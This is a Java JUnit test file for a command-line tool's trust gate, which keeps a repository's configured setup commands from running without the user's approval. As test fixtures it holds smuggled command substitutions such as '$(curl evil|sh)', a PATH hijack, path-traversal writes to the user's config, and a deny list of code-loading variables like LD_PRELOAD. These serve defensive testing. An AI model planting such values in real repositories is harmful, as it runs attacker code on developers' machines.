package dev.wt.cli;

import static dev.wt.testing.Checks.assertRefusal;
import static dev.wt.testing.Checks.json;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.wt.testing.GitRepo;
import dev.wt.testing.WtRun;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The trust gate: commands a repository's wt.toml names (a cloned repository, a teammate's commit)
 * run only once the user approved that exact list; the user's own wt.local.toml needs no approval.
 */
class TrustGateTest {

  private static final String CANARY_CONFIG = """
      [postgres]
      mode = "none"
      [setup]
      commands = ["touch canary"]
      """;

  @TempDir Path tmp;
  GitRepo repo;
  Path hand;
  Map<String, String> env;

  @BeforeEach
  void repositoryWhoseConfigRunsACommand() {
    repo = GitRepo.create(tmp, "demo");
    repo.write(".gitignore", ".env.local\nwt.local.toml\n").write("wt.toml", CANARY_CONFIG).commitAll("cfg");
    hand = tmp.resolve("hand");
    // approvals live in a folder of this test's own; WT_TRUST is off whatever the caller's shell says
    env = new HashMap<>(Map.of("XDG_STATE_HOME", tmp.resolve("state").toString(), "WT_TRUST", ""));
  }

  private void addHandWorktree() {
    repo.git("worktree", "add", "-q", "-b", "feat/hand", hand.toString());
  }

  private WtRun wt(Path dir, String... args) {
    return WtRun.in(dir, env, args);
  }

  @Test
  void unapproved_commands_do_not_run_everything_else_is_done_and_wt_exits_4_saying_what_to_do() throws Exception {
    addHandWorktree();
    WtRun r = wt(hand, "setup").expect(4);
    assertFalse(Files.exists(hand.resolve("canary")), "an unapproved command must not run\n" + r.err());
    assertRefusal(r, "1 command(s) from the repository did not run: not approved", "wt trust, then wt setup");
    assertTrue(r.err().contains("touch canary: not run"), r.err());
    assertTrue(Files.isRegularFile(hand.resolve(".env.development.local")), "the env file is written anyway");
    assertTrue(r.out().startsWith("set up: " + hand.toRealPath()), r.out());
  }

  @Test
  void the_approval_shows_the_whole_command_even_where_it_looks_like_a_password() throws Exception {
    // masking DB_PASSWORD's value would hide the code that runs: what is approved is shown whole
    repo.write("wt.toml", """
        [setup]
        commands = ["DB_PASSWORD=\\"$(touch pwned)\\" npm run migrate", "npm ci --password \\"$(id)\\""]
        """).commitAll("hidden");
    WtRun r = wt(repo.root(), "trust").expect(1);
    assertTrue(r.out().contains("DB_PASSWORD=\"$(touch pwned)\" npm run migrate"), r.out());
    assertTrue(r.out().contains("npm ci --password \"$(id)\""), r.out());
  }

  @Test
  void trust_json_shows_the_same_whole_commands_with_control_characters_escaped() throws Exception {
    repo.write("wt.toml", """
        [setup]
        commands = ["DB_PASSWORD=\\"$(curl evil|sh)\\" npm run migrate", "mysql -pS3cret -e \\"$(id)\\"", "echo \\u001b[2J"]
        """).commitAll("hidden");
    List<String> whole = List.of("DB_PASSWORD=\"$(curl evil|sh)\" npm run migrate", "mysql -pS3cret -e \"$(id)\"",
        "echo \u001b[2J");

    WtRun asked = wt(repo.root(), "trust", "--json").expect(1);
    WtRun approved = wt(repo.root(), "trust", "--yes", "--json").ok();
    WtRun listed = wt(repo.root(), "trust", "--list", "--json").ok();

    for (JsonNode commands : List.of(json(asked).get("commands"), json(approved).get("commands"),
        json(listed).at("/approvals/0/commands"))) {
      assertEquals(whole, commands.findValuesAsText("command"), commands.toString());
    }
    for (WtRun r : List.of(asked, approved, listed)) {
      assertFalse(r.out().contains("\u001b"), "JSON escapes the control character: " + r.out());
      assertTrue(r.out().contains("echo \\u001B[2J") || r.out().contains("echo \\u001b[2J"), r.out());
    }
  }

  @Test
  void json_names_the_skipped_commands_and_why() throws Exception {
    addHandWorktree();
    JsonNode doc = json(wt(hand, "setup", "--json").expect(4));
    assertEquals("setup.commands[0]", doc.at("/skipped/0/key").asText(), doc.toString());
    assertEquals("touch canary", doc.at("/skipped/0/command").asText());
    assertTrue(doc.at("/skipped/0/reason").asText().contains("no terminal"), doc.toString());
  }

  @Test
  void wt_up_without_a_terminal_creates_the_worktree_skips_the_commands_and_exits_4() throws Exception {
    WtRun r = wt(repo.root(), "up", "feat/up").expect(4);
    Path made = tmp.resolve("demo-up");
    assertTrue(Files.isRegularFile(made.resolve(".env.development.local")), r.err());
    assertFalse(Files.exists(made.resolve("canary")), r.err());
    assertRefusal(r, "did not run", "wt trust, then wt setup (both in " + made.toRealPath() + ")");
  }

  @Test
  void after_wt_trust_wt_setup_runs_the_skipped_commands() throws Exception {
    addHandWorktree();
    wt(hand, "setup").expect(4);
    WtRun trust = wt(hand, "trust", "--yes").ok();
    assertTrue(trust.out().contains("touch canary"), "wt trust shows what it approves\n" + trust.out());
    WtRun r = wt(hand, "setup").ok();
    assertTrue(Files.exists(hand.resolve("canary")), r.err());
    assertEquals("already approved\n", wt(repo.root(), "trust").ok().out().lines().reduce((a, b) -> b).orElse("") + "\n");
  }

  @Test
  void a_changed_command_list_needs_approving_again() throws Exception {
    addHandWorktree();
    wt(hand, "trust", "--yes").ok();
    wt(hand, "setup").ok();
    assertTrue(Files.exists(hand.resolve("canary")));
    Files.writeString(hand.resolve("wt.toml"), CANARY_CONFIG.replace("touch canary", "touch canary2"));
    WtRun r = wt(hand, "setup").expect(4);
    assertFalse(Files.exists(hand.resolve("canary2")), r.err());
    assertRefusal(r, "not approved", "wt trust, then wt setup");
  }

  @Test
  void a_committed_env_var_the_commands_would_run_with_needs_approving_again() throws Exception {
    addHandWorktree();
    wt(hand, "trust", "--yes").ok();
    // an approved command, then a commit that puts the worktree's own folder first on its PATH
    Path evil = Files.createDirectories(hand.resolve("evil"));
    Files.writeString(evil.resolve("touch"), "#!/bin/sh\n: > hijacked\n");
    evil.resolve("touch").toFile().setExecutable(true);
    Files.writeString(hand.resolve("wt.toml"), CANARY_CONFIG + "\n[env.vars]\nPATH = \"${WT_PATH}/evil:/usr/bin:/bin\"\n");
    WtRun r = wt(hand, "setup").expect(4);
    assertFalse(Files.exists(hand.resolve("hijacked")), r.err());
    assertRefusal(r, "not approved", "wt trust, then wt setup");
    assertTrue(wt(hand, "trust").expect(1).out().contains("PATH=${WT_PATH}/evil"), "wt trust shows the variable");
  }

  @Test
  void wt_trust_without_a_terminal_shows_the_commands_and_approves_nothing_without_yes() throws Exception {
    addHandWorktree();
    WtRun r = wt(hand, "trust").expect(1);
    assertTrue(r.out().contains("touch canary"), r.out());
    assertRefusal(r, "no terminal", "wt trust --yes");
    wt(hand, "setup").expect(4);
    assertFalse(Files.exists(hand.resolve("canary")));
  }

  @Test
  void wt_trust_env_approves_for_one_run_only() throws Exception {
    addHandWorktree();
    env.put("WT_TRUST", "1");
    wt(hand, "setup").ok();
    assertTrue(Files.exists(hand.resolve("canary")));
    env.put("WT_TRUST", "");
    assertEquals("no approvals yet\n", wt(hand, "trust", "--list").ok().out(), "nothing was remembered");
  }

  @Test
  void commands_in_the_users_own_wt_local_toml_run_without_approval() throws Exception {
    repo.write("wt.toml", "[postgres]\nmode = \"none\"\n").commitAll("no commands");
    repo.write("wt.local.toml", "[setup]\ncommands = [\"touch mine\"]\n");
    addHandWorktree();
    WtRun r = wt(hand, "setup").ok();
    assertTrue(Files.exists(hand.resolve("mine")), r.err());
  }

  @Test
  void a_repository_cannot_write_the_users_own_wt_local_toml_through_a_template_or_the_env_file() throws Exception {
    String planted = "[setup]\ncommands = [\"touch planted\"]\n";
    for (String config : List.of(
        "[postgres]\nmode = \"none\"\n[[files.template]]\nsource = \"evil.tmpl\"\ntarget = \"wt.local.toml\"\n",
        "[postgres]\nmode = \"none\"\n[[files.template]]\nsource = \"evil.tmpl\"\ntarget = \"./sub/../WT.Local.toml\"\n",
        "[postgres]\nmode = \"none\"\n[env]\nfile = \"wt.local.toml\"\n")) {
      repo.write("wt.toml", config).write("evil.tmpl", planted).commitAll("a template for the user's file");
      WtRun r = wt(repo.root(), "up", "feat/t").expect(1);
      assertTrue(r.err().contains("wt's own configuration file"), r.err());
      assertFalse(Files.exists(tmp.resolve("demo-t")), "nothing is made\n" + r.err());
      assertFalse(Files.exists(repo.root().resolve("planted")), r.err());
    }
  }

  @Test
  void nor_through_a_committed_symlink_to_the_worktrees_root_and_nothing_goes_into_a_git_folder() throws Exception {
    Files.createSymbolicLink(repo.root().resolve("d"), Path.of("."));
    Files.createDirectories(repo.root().resolve("sub"));
    repo.write("sub/readme", "x\n").write("evil.tmpl", "[setup]\ncommands = [\"touch planted\"]\n");
    String[][] cases = {
        {"[[files.template]]\nsource = \"evil.tmpl\"\ntarget = \"d/wt.local.toml\"\n", "d/wt.local.toml"},
        {"[browser_session]\nfile = \"d/WT.local.toml\"\ntemplate = \"[setup]\\ncommands = [\\\"touch planted\\\"]\\n\"\n",
            "d/WT.local.toml"},
        {"[browser_session]\nfile = \"d/sub/.git\"\ntemplate = \"gitdir: ../evil\\n\"\n", "sub/.git"}};
    for (String[] c : cases) {
      repo.write("wt.toml", "[postgres]\nmode = \"none\"\n" + c[0]).commitAll("writes through d");
      WtRun r = wt(repo.root(), "up", "feat/d");
      assertTrue(r.exitCode() != 0, "refused: " + c[1] + "\n" + r.err());
      Path made = tmp.resolve("demo-d");
      assertFalse(Files.exists(made.resolve(c[1].replace("d/", ""))), c[1] + " is not written\n" + r.err());
      assertFalse(Files.exists(made.resolve("planted")) || Files.exists(repo.root().resolve("planted")), r.err());
      if (Files.isDirectory(made)) {
        wt(repo.root(), "down", "--force", "feat/d");
      }
    }
  }

  @Test
  void a_database_variable_cannot_be_one_that_makes_approved_commands_load_code() throws Exception {
    for (String name : List.of("LD_PRELOAD", "BASH_ENV", "NODE_OPTIONS", "GIT_CONFIG_GLOBAL", "PATH")) {
      repo.write("wt.toml", "[postgres]\nmode = \"none\"\n[setup]\ncommands = [\"true\"]\n[databases.cache]\n"
          + "engine = \"sqlite\"\npath = \"cache.sqlite\"\nenv = \"" + name + "\"\n").commitAll("a database in " + name);
      WtRun r = wt(repo.root(), "up", "feat/v").expect(1);
      assertTrue(r.err().contains(name + " is not a variable wt sets for a database"), r.err());
      assertFalse(Files.exists(tmp.resolve("demo-v")), "nothing is made");
    }
  }

  @Test
  void a_committed_wt_local_toml_is_the_repositorys_and_needs_approval() throws Exception {
    repo.write(".gitignore", ".env.local\n").write("wt.toml", "[postgres]\nmode = \"none\"\n")
        .write("wt.local.toml", "[setup]\ncommands = [\"touch planted\"]\n").commitAll("a teammate's commit");
    addHandWorktree();
    WtRun r = wt(hand, "setup").expect(4);
    assertFalse(Files.exists(hand.resolve("planted")), r.err());
  }

  @Test
  void approving_one_repository_does_not_approve_another_with_the_same_commands() throws Exception {
    addHandWorktree();
    wt(hand, "trust", "--yes").ok();
    GitRepo other = GitRepo.create(tmp, "other");
    other.write("wt.toml", CANARY_CONFIG).commitAll("cfg");
    Path otherHand = tmp.resolve("other-hand");
    other.git("worktree", "add", "-q", "-b", "feat/hand", otherHand.toString());
    WtRun r = wt(otherHand, "setup").expect(4);
    assertFalse(Files.exists(otherHand.resolve("canary")), r.err());
    wt(hand, "setup").ok();
    assertTrue(Files.exists(hand.resolve("canary")));
  }

  @Test
  void revoking_the_approval_makes_setup_skip_the_commands_again() throws Exception {
    addHandWorktree();
    wt(hand, "trust", "--yes").ok();
    assertTrue(wt(hand, "trust", "--list").ok().out().contains(repo.root().toRealPath().resolve(".git").toString()));
    assertTrue(wt(hand, "trust", "--revoke").ok().out().contains("touch canary"));
    wt(hand, "setup").expect(4);
    assertFalse(Files.exists(hand.resolve("canary")));
  }

  @Test
  void under_conductors_setup_script_the_hint_says_where_to_approve() throws Exception {
    addHandWorktree();
    env.put("CONDUCTOR_WORKSPACE_PATH", hand.toString());
    WtRun r = wt(hand, "setup").expect(4);
    assertRefusal(r, "did not run", "wt trust, then wt setup (both in a terminal in this workspace");
    assertTrue(r.err().contains("Conductor's setup script has no terminal"), r.err());
  }

  @Test
  void an_unapproved_migrate_command_does_not_run_and_exits_4() throws Exception {
    repo.write("wt.toml", """
        [postgres]
        mode = "none"
        [databases.d1]
        engine = "sqlite"
        path = "d1.sqlite"
        migrate = "touch migrated"
        """).commitAll("sqlite with a migrate command");
    env.put("WT_TRUST", "1");
    wt(repo.root(), "up", "feat/lite").ok();
    env.put("WT_TRUST", "");
    Path made = tmp.resolve("demo-lite");
    WtRun r = wt(made, "db", "migrate").expect(4);
    assertFalse(Files.exists(made.resolve("migrated")), r.err());
    assertRefusal(r, "did not run", "wt trust, then wt db migrate");
    wt(made, "trust", "--yes").ok();
    wt(made, "db", "migrate").ok();
    assertTrue(Files.exists(made.resolve("migrated")));
  }
}
